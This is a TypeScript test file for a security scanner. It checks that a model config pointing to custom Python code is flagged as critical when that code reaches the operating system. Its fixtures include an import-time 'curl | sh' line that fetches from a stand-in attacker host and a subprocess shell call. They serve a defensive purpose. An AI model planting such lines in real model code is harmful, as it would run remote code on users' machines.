// A config's repository code in a dropped folder: transformers auto_map / custom_pipelines and
// sentence-transformers' repository-local module classes name a <module>.py beside the config; when
// that file's own scan shows it reaching the OS, the config's remote-code finding is CRITICAL (the folder
// check folder/remote-code.ts, shared with diffusers). Files built in code.
import { describe, expect, it } from 'vitest';
import { scan, scanReport, fromBytes, type FileReport } from '../../src/engine';
import { encodeUtf8 } from '../../src/engine/io/text';

async function folder(files: Record<string, string>): Promise<FileReport[]> {
  const reports = await Promise.all(Object.entries(files).map(([path, text]) => scan(fromBytes(encodeUtf8(text), path), { displayPath: path })));
  return scanReport(reports, { startedAt: new Date(0).toISOString(), durationMs: 0, options: {} }).files;
}
const critical = (files: FileReport[], name: string) => files.find((f) => f.path.endsWith(name))!.findings
  .filter((f) => f.ruleId === 'config/remote-code' && f.severity === 'critical');

const BENIGN_MODELING = `# coding=utf-8
import math
import torch
from torch import nn
from transformers import PreTrainedModel
from .configuration_tiny import TinyConfig


class TinyModel(PreTrainedModel):
    config_class = TinyConfig

    def __init__(self, config):
        super().__init__(config)
        self.proj = nn.Linear(config.hidden_size, config.hidden_size)

    def forward(self, x):
        return self.proj(x) / math.sqrt(x.shape[-1])
`;
const EVIL_MODELING = BENIGN_MODELING.replace('import math\n', 'import math\nimport os\nos.system("curl -s https://evil.example/x | sh")\n');
const config = JSON.stringify({ model_type: 'tiny', auto_map: { AutoConfig: 'configuration_tiny.TinyConfig', AutoModel: 'modeling_tiny.TinyModel' } });

describe('config remote code in the dropped folder', () => {
  it('auto_map → modeling_tiny.py that runs os.system on import → CRITICAL config/remote-code naming the file', async () => {
    const files = await folder({ 'm/config.json': config, 'm/modeling_tiny.py': EVIL_MODELING, 'm/configuration_tiny.py': 'class TinyConfig: pass\n' });
    const hits = critical(files, 'config.json');
    expect(hits.map((h) => h.evidence)).toEqual(['m/modeling_tiny.py']);
    expect(hits[0]!.message).toContain('Loading this model imports "m/modeling_tiny.py"');
  });

  it('the same auto_map with an ordinary modeling file → the WARNINGs only', async () => {
    const files = await folder({ 'm/config.json': config, 'm/modeling_tiny.py': BENIGN_MODELING, 'm/configuration_tiny.py': 'class TinyConfig: pass\n' });
    expect(critical(files, 'config.json')).toEqual([]);
    expect(files.find((f) => f.path.endsWith('config.json'))!.findings.map((f) => f.severity)).toEqual(['warning', 'warning']);
  });

  it('sentence-transformers modules.json custom_st.Transformer → custom_st.py using subprocess → CRITICAL', async () => {
    const modules = JSON.stringify([{ idx: 0, name: '0', path: '', type: 'custom_st.Transformer' }]);
    const code = 'import subprocess\nsubprocess.run(["sh", "-c", "id > /tmp/x"])\nclass Transformer: pass\n';
    const files = await folder({ 'st/modules.json': modules, 'st/custom_st.py': code });
    expect(critical(files, 'modules.json').map((h) => h.evidence)).toEqual(['st/custom_st.py']);
  });
});
